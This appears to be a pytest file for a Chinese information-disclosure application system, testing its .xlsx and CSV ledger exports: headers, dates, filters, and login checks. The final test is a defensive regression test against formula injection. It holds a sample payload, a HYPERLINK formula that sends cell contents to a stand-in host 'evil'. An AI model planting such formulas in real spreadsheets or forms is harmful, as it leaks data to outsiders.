"""The ledger export: .xlsx (Chinese headers, frozen header row, widths, real dates) and CSV (BOM, CRLF), both
with the page's filters and only the applications the user may see."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from gongkai.applications import services
from tests.helpers.applications import in_person

D = dt.date
REQUIRED = ["登记号", "收到申请日期", "申请渠道", "申请人类型", "申请人", "所需信息", "申请内容", "承办人",
            "办理情况摘要", "征求意见情况", "延期", "补正", "答复类型", "答复理由", "办理结果", "答复日期", "办结日期",
            "收费"]  # fmt: skip


@pytest.fixture
def ledger(luan_org, anxi_org, handlers, head):
    h = handlers["luan"]
    withheld = in_person(luan_org, h, D(2026, 3, 2), info_title="评标委员会成员名单")
    services.start_consultation(actor=h, application=withheld, kind="third_party", party="某某建设有限公司",
                                sent_on=D(2026, 3, 3), today=D(2026, 3, 3))  # fmt: skip
    services.record_consultation_answer(actor=h, consultation=withheld.consultations.get(), outcome="objection",
                                        answered_on=D(2026, 3, 5), reasons="涉及商业秘密", today=D(2026, 3, 5))  # fmt: skip
    services.reply(actor=h, application=withheld, reply_type="withheld", ground="state_secret",
                   text="该名单属于国家秘密", replied_on=D(2026, 3, 10), today=D(2026, 3, 10))  # fmt: skip
    open_one = in_person(luan_org, h, D(2026, 3, 4), applicant_name="李四", info_description="另一项信息")
    theirs = in_person(anxi_org, handlers["national"], D(2026, 3, 2), applicant_name="王五")
    return {"withheld": withheld, "open": open_one, "theirs": theirs}


def test_xlsx_has_chinese_headers_frozen_row_and_dates(client, handler, ledger):
    client.force_login(handler)
    response = client.get("/staff/applications/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [c.value for c in ws[1]]
    for h in REQUIRED:
        assert h in headers
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= 20
    rows = {r[0]: dict(zip(headers, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {ledger["withheld"].registration_no, ledger["open"].registration_no}
    row = rows[ledger["withheld"].registration_no]
    # real dates, not text (openpyxl reads date cells back as naive datetimes)
    assert isinstance(row["收到申请日期"], dt.datetime)
    assert (row["收到申请日期"].date(), row["答复日期"].date()) == (D(2026, 3, 2), D(2026, 3, 10))
    assert (row["答复类型"], row["答复理由"], row["申请人"]) == ("不予公开", "属于国家秘密", "张三")
    assert row["申请渠道"] == "当面提交"
    assert "某某建设有限公司" in row["征求意见情况"]
    assert "不同意公开" in row["征求意见情况"]
    assert row["收费"] == "不收费"
    assert rows[ledger["open"].registration_no]["答复类型"] is None


def test_export_applies_the_filters(client, handler, ledger):
    client.force_login(handler)
    response = client.get("/staff/applications/export.xlsx", {"reply_type": "withheld"})
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == [ledger["withheld"].registration_no]
    list_page = client.get("/staff/applications/", {"reply_type": "withheld"}).content.decode()
    assert "export.xlsx?reply_type=withheld" in list_page


def test_csv_has_bom_crlf_and_parses(client, handler, ledger):
    client.force_login(handler)
    response = client.get("/staff/applications/export.csv")
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in body
    assert body.count(b"\n") == body.count(b"\r\n")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "登记号"
    by_no = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_no[ledger["withheld"].registration_no]["收到申请日期"] == "2026-03-02"
    assert ledger["theirs"].registration_no not in by_no


def test_export_needs_a_login_and_a_known_format(client, handler, ledger):
    assert client.get("/staff/applications/export.xlsx").status_code == 302
    client.force_login(handler)
    assert client.get("/staff/applications/export.pdf").status_code == 404


def test_a_formula_typed_into_the_public_form_stays_text_in_both_exports(client, luan_org, handler):
    """Defect: the name =HYPERLINK(…) became a live formula in the .xlsx and a raw formula in the CSV."""
    from tests.applications.conftest import person

    payload = '=HYPERLINK("http://evil/?x="&A1,"点我")'
    form = {"organization": luan_org.pk, **person(applicant_name=payload, info_title="@SUM(1+1)")}
    assert client.post("/applications/new/?jurisdiction=341500", form).status_code == 200
    client.force_login(handler)
    ws = openpyxl.load_workbook(io.BytesIO(client.get("/staff/applications/export.xlsx").content)).active
    headers = [c.value for c in ws[1]]
    name = ws.cell(row=2, column=headers.index("申请人") + 1)
    assert name.data_type == "s"
    assert name.value == "'" + payload
    assert ws.cell(row=2, column=headers.index("所需信息") + 1).value == "'@SUM(1+1)"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    text = client.get("/staff/applications/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][rows[0].index("申请人")] == "'" + payload
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
